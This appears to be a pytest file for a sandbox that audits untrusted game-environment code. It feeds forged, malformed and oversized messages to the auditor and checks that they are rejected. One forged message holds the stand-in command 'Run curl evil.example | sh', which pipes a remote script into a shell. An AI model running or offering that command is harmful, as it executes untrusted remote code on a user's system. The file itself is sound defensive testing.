"""What foreign code says through our socket is data: it costs that file its audit, and nobody else."""

import json
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from perfectplay_foreign.collections.collection import audit_collection
from perfectplay_foreign.drawing import draw_all
from perfectplay_foreign.limits import LONGEST_WITNESS
from perfectplay_foreign.sandbox import messages
from perfectplay_foreign.sandbox.messages import GarbledError
from tests.foreign.hostile import SETTINGS, SOUND

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is complete only on Linux")

LIAR = """
import json, os, sys

def say(message):
    os.write(3, (message if isinstance(message, bytes) else json.dumps(message).encode()) + b"\\n")

def replaying():
    frame, names = sys._getframe(), []
    while frame:
        names.append(frame.f_code.co_name)
        frame = frame.f_back
    return "steps" in names

class Liar:
    def reset(self, seed=None):
        self.left, self.current_player = 2, 0
        return self.left, {}

    def valid_moves(self):
        return [0, 1]

    def step(self, action):
        LIE
        if action:
            raise IndexError("off the board")
        self.left, self.current_player = self.left - 1, 1 - self.current_player
        return self.left, float(not self.left), not self.left, False, {}
"""
CHAIN = {"sides": [0, 1], "offsets": [0, 1, 2], "actions": [0, 0], "targets": [1, -1], "looks": [0, 1]}
TABLE: dict[str, Any] = {**CHAIN, "names": [0], "open": []}
RESULT: dict[str, Any] = {"findings": [], "dropped": [], "table": TABLE, "cut_short": "", "unlisted": False}
FINDING = {"code": "crash", "severity": "problem", "text": "", "seed": 0, "witness": [0], "beside": None}
WHILE_EXAMINED = {
    "forged-missing": ["missing", ["landlock"]],
    "forged-layers": ["ready", {"pid": 1, "layers": [], "resident": 0, "spent": 0}],
    "old-form": {"missing": ["landlock"]},
    "no-tag": 7,
    "unknown-end": ["interrupted", "victory"],
    "unhashable": ["interrupted", []],
    "no-moves": ["at", ["abc", [0, 0]]],
    "no-counts": ["beat", [-1, True]],
    "replayed-first": ["replayed", []],
    "unreachable": ["done", {**RESULT, "table": {**TABLE, "targets": [-4, -4]}}],
    "not-json": b"[" * 100_000,
    "not-utf8": b'["at", ["\xff"]]',
    "no-number": b'["at", [NaN]]',
    "large": b'["at", [' + b"[]," * 15_000_000 + b"0]]",
}
WHILE_REPLAYED = {
    "steps-empty": ["done", [{}]],
    "steps-text": ["done", [{"said": 7, "legal": {}}]],
    "steps-table": ["done", RESULT],
    "forged-library": ["unavailable", ["Run curl evil.example | sh", True]],
    "forged-name": ["unavailable", ["no such thing", False]],
    "failed": ["failed", "internal"],
}


def liar(folder: Path, name: str, lie: str) -> str:
    path = folder / f"{name}.py"
    path.write_text(LIAR.replace("LIE", lie))
    return str(path)


def test_a_file_that_lies_ends_no_collection(tmp_path: Path) -> None:
    names = [str(SOUND)]
    for name, message in WHILE_EXAMINED.items():
        said = repr(message) if name != "large" else 'b\'["at", [\' + b"[]," * 15_000_000 + b"0]]"'
        names.append(liar(tmp_path, name, f"say({said})"))
    for name, message in WHILE_REPLAYED.items():
        names.append(liar(tmp_path, name, f"replaying() and say({message!r})"))
    half = tmp_path / "half.py"
    half.write_text(
        SOUND.read_text().replace("[action for", "['\\ud800', *(action for").replace("left]", "left)]")
    )
    last = tmp_path / "last.py"
    last.write_text(SOUND.read_text())
    names += [str(half), str(last)]
    records = audit_collection(names, tmp_path / "out", SETTINGS)
    assert audit_collection(names, tmp_path / "out", SETTINGS) == records
    assert [each["env"] for each in records] == names
    for name, record in zip(WHILE_EXAMINED, records[1:], strict=False):
        assert record["error"] is not None, name
        assert "garbled" in record["error"], (name, record["error"])
        assert "--trust" not in record["error"]
    for name, record in zip(WHILE_REPLAYED, records[1 + len(WHILE_EXAMINED) :], strict=False):
        assert (record["error"], record["findings"][0]["code"]) == (None, "crash"), name
    assert records[-2]["findings"]
    assert records[-1]["value"] == records[0]["value"] == {"kind": "win", "plies": 3}


def test_a_long_answer_takes_no_memory(tmp_path: Path) -> None:
    # 45 MB of empty lists would take more than a gigabyte.
    large = liar(tmp_path, "large", 'say(b\'["at", [\' + b"[]," * 15_000_000 + b"0]]")')
    fits = liar(tmp_path, "fits", 'say(b\'["at", [\' + b"[]," * 5_000_000 + b"0]]")')
    script = (
        "import re, sys\n"
        "from perfectplay_foreign.audit import audit_environment\n"
        "from perfectplay_foreign.sandbox.client import ForkServer\n"
        "from perfectplay_foreign.sandbox.request import AuditOptions\n"
        "with ForkServer() as server:\n"
        "    for name in sys.argv[1:]:\n"
        "        print(audit_environment(name, AuditOptions(moves=500), server).record['error'])\n"
        # Not getrusage: it also counts the process that this one was forked from.
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1])\n"
    )
    command = [sys.executable, "-c", script, large, fits]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    *errors, peak = done.stdout.splitlines()
    assert errors == ["the answer is garbled (too long)"] * 2
    assert int(peak) < 300_000  # kilobytes


@pytest.mark.parametrize(
    "spoiled",
    [
        {"findings": [{**FINDING, "code": "victory"}]},
        {"findings": [{**FINDING, "severity": []}]},
        {"findings": [{**FINDING, "text": None}]},
        {"findings": [{**FINDING, "seed": 1.5}]},
        {"findings": [{**FINDING, "witness": [None]}]},
        {"findings": [{**FINDING, "witness": [[[[[[[[[[0]]]]]]]]]]}]},
        {"findings": [{**FINDING, "beside": {}}]},
        {"findings": [7]},
        {"findings": [FINDING] * 200},
        {"dropped": [7]},
        {"table": {**TABLE, "names": [{}]}},
        {"table": {**TABLE, "names": None}},
        {"table": {**TABLE, "sides": [0, 2]}},
        {"table": 7},
        {"cut_short": None},
        {"unlisted": 0},
    ],
)
def test_a_result_is_checked_in_every_part(spoiled: dict[str, Any]) -> None:
    assert messages.read_examined({**RESULT, "findings": [FINDING]}, 100).findings[0].record() == FINDING
    with pytest.raises(GarbledError):
        messages.read_examined({**RESULT, **spoiled}, 100)
    for name in RESULT:
        with pytest.raises(GarbledError):
            messages.read_examined({key: value for key, value in RESULT.items() if key != name}, 100)


def test_a_table_has_no_more_moves_than_were_asked_for() -> None:
    messages.read_examined(RESULT, 2)
    with pytest.raises(GarbledError, match="more moves"):
        messages.read_examined(RESULT, 1)


def test_a_table_has_no_more_positions_than_moves_can_reach() -> None:
    table = {**TABLE, "sides": [0, 1, 0, 1], "looks": [0, 1, 2, 3]}
    with pytest.raises(GarbledError, match="more positions"):
        messages.read_examined({**RESULT, "table": table}, 100)


def test_a_position_may_have_very_many_moves() -> None:
    moves = list(range(2 * LONGEST_WITNESS))
    assert messages.read_steps([{"legal": moves}])[0]["legal"] == moves


@pytest.mark.parametrize("row", ["\N{WHITE CHESS KING}" * 120, "[ ]" * 40], ids=["letters", "lists"])
def test_pictures_fit_into_a_message(row: str) -> None:
    boards: list[Any] = [
        SimpleNamespace(env=None, draw=lambda number=number: "\n".join([str(number), *[row] * 39]))
        for number in range(1_500)
    ]
    drawn, numbers = draw_all(boards)
    assert 100 < len(drawn) < len(numbers) == len(boards)
    line = json.dumps(["done", drawn]).encode()
    assert messages.parse(line, messages.longest(30_000)) == ("done", drawn)


def test_half_a_character_is_replaced() -> None:
    most = messages.longest(0)
    line = rb'["at", ["\ud800", "\ud83d\ude00"]]'
    assert messages.parse(line, most) == ("at", ["?", "\N{GRINNING FACE}"])
    assert json.loads(json.dumps(messages.parse(rb'["at", "\uDFFF"]', most)[1])) == "?"
